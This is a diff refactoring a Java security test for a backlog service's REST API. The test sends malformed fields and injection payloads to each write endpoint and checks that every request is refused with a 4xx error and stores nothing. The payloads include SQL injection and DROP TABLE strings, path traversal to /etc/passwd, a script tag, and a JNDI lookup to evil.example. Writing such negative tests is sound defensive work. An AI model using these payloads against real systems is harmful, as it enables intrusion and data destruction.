@@ -1,7 +1,7 @@
 package io.entente.backlog;
 
-import io.entente.platform.testing.BadInput;
 import io.entente.platform.testing.BadInput.Case;
+import io.entente.platform.testing.BadInputSweep;
 import io.entente.platform.testing.TestTokens;
 import io.quarkus.test.junit.QuarkusTest;
 import io.restassured.response.Response;
@@ -9,34 +9,29 @@ import jakarta.inject.Inject;
 import jakarta.persistence.EntityManager;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.MethodSource;
 
 import java.util.ArrayList;
 import java.util.List;
 import java.util.stream.Stream;
 
-import static io.entente.platform.testing.BadInput.abbreviate;
 import static io.entente.platform.testing.BadInput.common;
 import static io.entente.platform.testing.BadInput.field;
 import static io.entente.platform.testing.BadInput.str;
+import static io.entente.platform.testing.BadInput.strs;
 import static io.entente.platform.testing.BadInput.with;
 import static io.restassured.RestAssured.given;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-/**
- * Bad input against every write of the backlog service: each answer is a 4xx problem+json, never a 5xx, and nothing
- * is stored (rows, audit, outbox). The valid body of each endpoint is broken one way at a time.
- */
+/** Bad input against every write of the backlog service; see {@link BadInputSweep}. */
 @QuarkusTest
-class BadInputTest {
+class BadInputTest extends BadInputSweep {
 
     static final String ALLIANCE = "B-BAD";
     static final String USER = "bad-input";
     static final String TOKEN = TestTokens.user(USER).roles("alliance-manager").alliances(ALLIANCE).sign();
-    static final String[] INJECTIONS = {"ONC-HELIX' OR '1'='1", "B-BAD; DROP TABLE backlog_item; --",
-            "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "B-BAD\u0000"};
+    static final String[] INJECTIONS = strs("ONC-HELIX' OR '1'='1", "B-BAD; DROP TABLE backlog_item; --",
+            "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "B-BAD\u0000");
 
     static final String ITEM = """
             {"allianceId":"B-BAD","title":"Prepare JSC","description":"d","discipline":"GOVERNANCE","type":"TASK",
@@ -69,23 +64,20 @@ class BadInputTest {
         }
     }
 
-
-
-
-
-
-    static List<String> injections() {
-        return Stream.of(INJECTIONS).map(BadInput::str).toList();
+    @Override
+    protected String token() {
+        return TOKEN;
     }
 
-    static Stream<Case> cases() {
+    @Override
+    protected List<Case> cases() {
         List<Case> all = new ArrayList<>();
         String items = "/api/backlog-items";
         all.addAll(common("POST", items, ITEM, "title"));
         all.addAll(field("POST", items, ITEM, "title", null, "\"\"", "null", str("t".repeat(201))));
         all.addAll(field("POST", items, ITEM, "allianceId", null, "\"\"", "\"onc-helix\"", "\"NOPE-UNKNOWN\"",
                 "17"));
-        all.addAll(field("POST", items, ITEM, "allianceId", injections().toArray(String[]::new)));
+        all.addAll(field("POST", items, ITEM, "allianceId", INJECTIONS));
         all.addAll(field("POST", items, ITEM, "discipline", null, "\"COOKING\"", "\"governance \"", "[]"));
         all.addAll(field("POST", items, ITEM, "type", null, "\"EPIC-ISH\"", "{}"));
         all.addAll(field("POST", items, ITEM, "estimate", "-1", "101", "\"three\"", "1e10", "[3]",
@@ -102,7 +94,7 @@ class BadInputTest {
         all.addAll(common("POST", alliances, ALLIANCE_BODY, "name"));
         all.addAll(field("POST", alliances, ALLIANCE_BODY, "key", null, "\"x\"", "\"lower-case\"",
                 str("K".repeat(40))));
-        all.addAll(field("POST", alliances, ALLIANCE_BODY, "key", injections().toArray(String[]::new)));
+        all.addAll(field("POST", alliances, ALLIANCE_BODY, "key", INJECTIONS));
         all.addAll(field("POST", alliances, ALLIANCE_BODY, "tier", "0", "4", "\"gold\"", null));
         all.addAll(field("POST", alliances, ALLIANCE_BODY, "valueScore", "0", "6"));
         all.addAll(field("POST", alliances, ALLIANCE_BODY, "riskThreshold", "0", "26"));
@@ -115,7 +107,7 @@ class BadInputTest {
         all.addAll(field("POST", risks, RISK, "impact", "0", "6", null));
         all.addAll(field("POST", risks, RISK, "category", "\"WEATHER\"", null));
         all.addAll(field("POST", risks, RISK, "nextReviewDate", "\"2026-11-31\"", "\"next week\""));
-        all.addAll(field("POST", risks, RISK, "allianceId", injections().toArray(String[]::new)));
+        all.addAll(field("POST", risks, RISK, "allianceId", INJECTIONS));
 
         String obligations = "/api/obligations";
         all.addAll(common("POST", obligations, OBLIGATION, "title"));
@@ -137,67 +129,49 @@ class BadInputTest {
         all.add(new Case("rank next to a non-uuid", "POST", "/api/backlog-items/{id}/rank", "application/json",
                 "{\"above\":\"first\"}"));
         all.add(new Case("drop without reason", "POST", "/api/backlog-items/{id}/drop", "application/json", "{}"));
-        return all.stream();
+        return all;
     }
 
-    long[] counts() {
-        return new long[]{
-                count("select count(*) from alliance"),
-                count("select count(*) from backlog_item"),
-                count("select count(*) from backlog_item_dependency"),
-                count("select count(*) from risk"),
-                count("select count(*) from obligation"),
-                count("select count(*) from audit_log where actor = '" + USER + "'"),
-                count("select count(*) from outbox_event where alliance_id = '" + ALLIANCE + "'"),
-                count("select coalesce(max(version), 0) from backlog_item where alliance_id = '" + ALLIANCE + "'")};
+    @Override
+    protected List<Long> stored() {
+        return Stream.of("select count(*) from alliance",
+                "select count(*) from backlog_item",
+                "select count(*) from backlog_item_dependency",
+                "select count(*) from risk",
+                "select count(*) from obligation",
+                "select count(*) from audit_log where actor = '" + USER + "'",
+                "select count(*) from outbox_event where alliance_id = '" + ALLIANCE + "'",
+                "select coalesce(max(version), 0) from backlog_item where alliance_id = '" + ALLIANCE + "'")
+                .map(this::count).toList();
     }
 
     long count(String sql) {
         return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
     }
 
-    @ParameterizedTest(name = "{0}")
-    @MethodSource("cases")
-    void refusedWith4xxProblemAndNothingStored(Case c) {
-        long[] before = counts();
+    @Override
+    protected Response send(Case c) {
         String path = c.path().replace("{id}", itemId);
         var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(c.body());
         if (c.method().equals("PUT") || path.endsWith("/rank") || path.endsWith("/drop")) {
             request = request.header("If-Match", Fixtures.etag("/api/backlog-items/" + itemId, TOKEN));
         }
-        Response r = request.request(c.method(), path);
-        String body = r.asString();
-        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500,
-                c + " answered " + r.statusCode() + ": " + abbreviate(body));
-        assertTrue(r.contentType() != null && r.contentType().startsWith("application/problem+json"),
-                c + " answered " + r.statusCode() + " as " + r.contentType() + ": " + abbreviate(body));
-        assertEquals(r.statusCode(), (int) r.path("status"), c.toString());
-        assertTrue(!body.contains("Exception") && !body.contains("at io.") && !body.contains("org.hibernate"),
-                "no internals: " + body);
-        assertEquals(List.of(before[0], before[1], before[2], before[3], before[4], before[5], before[6], before[7]),
-                List.of(counts()[0], counts()[1], counts()[2], counts()[3], counts()[4], counts()[5], counts()[6],
-                        counts()[7]), c + ": nothing stored");
+        return request.request(c.method(), path);
     }
 
-    static Stream<String> badQueries() {
-        return Stream.of("limit=0", "limit=201", "limit=-1", "limit=abc", "limit=99999999999", "after=garbage",
-                "after=%00", "sort=password", "sort=rank;drop%20table%20backlog_item", "dueBefore=2026-02-30",
-                "dueBefore=yesterday", "status=SHIPPED", "allianceId=ONC-HELIX'%20OR%20'1'='1");
+    @Override
+    protected List<String> badQueries() {
+        return queries("/api/backlog-items", "limit=0", "limit=201", "limit=-1", "limit=abc", "limit=99999999999",
+                "after=garbage", "after=%00", "sort=password", "sort=rank;drop%20table%20backlog_item",
+                "dueBefore=2026-02-30", "dueBefore=yesterday", "status=SHIPPED",
+                "allianceId=ONC-HELIX'%20OR%20'1'='1");
     }
 
-    @ParameterizedTest(name = "GET /api/backlog-items?{0}")
-    @MethodSource("badQueries")
-    void badQueriesAre400(String query) {
-        Response r = given().auth().oauth2(TOKEN).urlEncodingEnabled(false).get("/api/backlog-items?" + query);
-        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500 || r.statusCode() == 200,
-                query + " answered " + r.statusCode() + ": " + abbreviate(r.asString()));
-        if (r.statusCode() != 200) {
-            assertTrue(r.contentType().startsWith("application/problem+json"), query + ": " + r.contentType());
-        } else {
-            // A filter value that matches nothing is a sensible empty answer, never another alliance's data.
-            List<String> seen = r.path("items.allianceId");
-            assertTrue(seen.stream().allMatch(ALLIANCE::equals), query + " leaked " + seen);
-        }
+    /** A filter value that matches nothing is a sensible empty answer, never another alliance's data. */
+    @Override
+    protected void assertHarmless(String query, Response ok) {
+        List<String> seen = ok.path("items.allianceId");
+        assertTrue(seen.stream().allMatch(ALLIANCE::equals), query + " leaked " + seen);
     }
 
     @Test
